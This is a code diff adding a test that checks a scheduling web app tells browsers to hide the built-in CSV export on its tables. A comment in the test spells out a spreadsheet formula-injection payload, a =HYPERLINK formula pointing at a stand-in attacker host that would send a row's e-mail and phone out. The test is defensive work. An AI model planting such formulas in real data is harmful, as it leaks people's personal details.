@@ -216,6 +216,20 @@ def test_an_ended_sign_in_closes_the_open_connection_and_builds_no_export(server
     assert len(audit.recent_events().query("action == 'export'")) == 1
 
 
+def test_the_browser_is_told_to_offer_no_export_of_its_own(server):
+    # The attack: st.dataframe's toolbar has a "Download as CSV" of its own, built in the browser:
+    # no sign-in check, no audit record, and no formula neutralised. A young person who books
+    # an interview on the public booking site under the name =HYPERLINK("https://evil/?"&F2&G2)
+    # lands in the advisor's schedule table; its toolbar CSV, opened in a spreadsheet, sends
+    # that row's e-mail and phone away at a click, and nobody's log says it was downloaded.
+    # Every download must go through the app's export buttons (pages/common/downloads.py):
+    # the server tells each browser to hide its own export controls.
+    tab = Connection(server, {web.COOKIE: signed_in_cookie(server, "admin@cfai.fr")})
+    shown = tab.run()
+    tab.close()
+    assert "disable_data_export: true" in shown
+
+
 def test_under_a_base_url_the_app_s_files_still_need_a_sign_in(engine, tmp_path: Path):
     # Served under /rencontres (server.baseUrlPath, behind a proxy): an export's address ends in
     # a file name too, and must not pass as a front-end file.
